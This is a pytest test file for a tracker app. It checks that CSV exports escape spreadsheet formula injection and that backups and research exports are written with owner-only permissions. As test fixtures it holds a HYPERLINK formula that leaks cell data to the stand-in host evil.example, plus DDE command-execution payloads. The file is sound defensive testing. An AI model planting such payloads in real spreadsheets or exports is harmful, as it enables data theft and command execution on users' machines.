"""Issue 16, exports: formula injection in every CSV the app writes (the report exports, the engagement
feedback CSV, the research export with --include-notes), and files on disk (research exports, backups)
created readable by their owner only, even under a umask that would make them world-readable."""

import csv
import datetime as dt
import io
import os
import stat

import pytest

from tracker import exports
from tracker.models import Goal

from . import factories

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NUMBER_LIKE = "-0123456789."


def cells(text):
    return [value for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for value in row]


def assert_inert(values, where):
    """No cell a spreadsheet would run: nothing starts with = + @ tab CR, and a leading - only on a number."""
    for value in values:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), (where, value)
        if value.startswith("-"):
            assert value.strip(NUMBER_LIKE) == "", (where, value)


@pytest.fixture
def poisoned(demo):
    """The small world with attacker-chosen text in every name an export shows: an engagement title, a
    unit, an ISP; with meetings so every export has rows."""
    w = demo
    w.unit_a.name = "+cmd|' /C calc'!A0"
    w.unit_a.save()
    w.isp_a1.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    w.isp_a1.save()
    w.engagement_a.title = ATTACK
    w.engagement_a.save()
    for day, kind in ((3, "monthly"), (10, "coaching"), (17, "monthly")):
        factories.meeting(w.engagement_a, dt.date(2026, 2, day), ["p20_co_learning"], kind=kind, logged_by=w.isp_a1)
    return w


def test_every_registered_export_escapes_formulas(poisoned, as_user):
    client = as_user(poisoned.admin)
    seen = []
    isp = as_user(poisoned.isp_a1)
    goal = Goal.live().where(Goal.engagement == poisoned.engagement_a.id).first()
    one = f"?engagement_id={poisoned.engagement_a.id}" + (f"&goal_id={goal.id}" if goal else "")
    for name in exports.EXPORTS:
        reader = client if exports.may_download(name, poisoned.admin) else isp  # an ISP's own (my-competencies)
        # one engagement's tables name it (without, 404); the others: the whole portfolio and one engagement
        for query in (one,) if exports.engagement_rule(name) is not None else ("", one):
            response = reader.get(f"/reports/{name}.csv{query}")
            if name == "goal-values" and goal is None:
                assert response.status_code == 404, name  # a goal's table needs its goal
                continue
            assert response.status_code == 200, name
            values = cells(response.get_data(as_text=True))
            assert_inert(values, name)
            seen += values
    # the attack did reach the exports, escaped: shown as text
    assert "'" + ATTACK in seen
    assert "'+cmd|' /C calc'!A0" in seen
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen


def test_the_feedback_csv_writer_escapes_formulas():
    response = exports.plain_csv_response([["period", "note"], ["2026 Q1", ATTACK], ["-1+1", -2]], "f.csv")
    text = response.get_data(as_text=True)
    assert not text.startswith("\ufeff")
    assert csv.reader(io.StringIO(text)).__next__() == ["period", "note"]
    values = cells(text)
    assert "'" + ATTACK in values and "'-1+1" in values and "-2" in values
    assert_inert(values, "feedback")


@pytest.fixture
def world_readable_umask():
    """The attack: a process umask (022) under which a plain open() creates world-readable files."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_research_export_with_notes_escapes_formulas_and_is_private(poisoned, runner, tmp_path, world_readable_umask):
    meeting = factories.meeting(poisoned.engagement_b, dt.date(2026, 3, 3), kind="monthly")
    meeting.notes = ATTACK
    meeting.save()
    out = tmp_path / "research"
    result = runner.invoke(args=["export-research", str(out), "--include-notes"])
    assert result.exit_code == 0, result.output
    with open(out / "meetings.csv", newline="", encoding="utf-8") as fh:
        notes = [row["notes"] for row in csv.DictReader(fh)]
    assert "'" + ATTACK in notes
    files = sorted(out.iterdir())
    assert len(files) >= 10
    for path in files:
        with open(path, newline="", encoding="utf-8") as fh:
            assert_inert([v for row in csv.reader(fh) for v in row], path.name)
        assert mode(path) == 0o600, path.name
    assert mode(out) == 0o700


def test_backups_are_created_readable_by_their_owner_only(sqlite_app, tmp_path, world_readable_umask):
    factories.user("admin", "root@example.org", "Root")  # a password hash and a session token in the file
    target = tmp_path / "backup.sqlite3"
    result = sqlite_app.test_cli_runner().invoke(args=["backup", str(target)])
    assert result.exit_code == 0, result.output
    assert mode(target) == 0o600
    assert target.stat().st_size > 0


def test_create_private_refuses_an_existing_file(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("kept")
    with pytest.raises(FileExistsError):
        exports.create_private(path)
    assert path.read_text() == "kept"
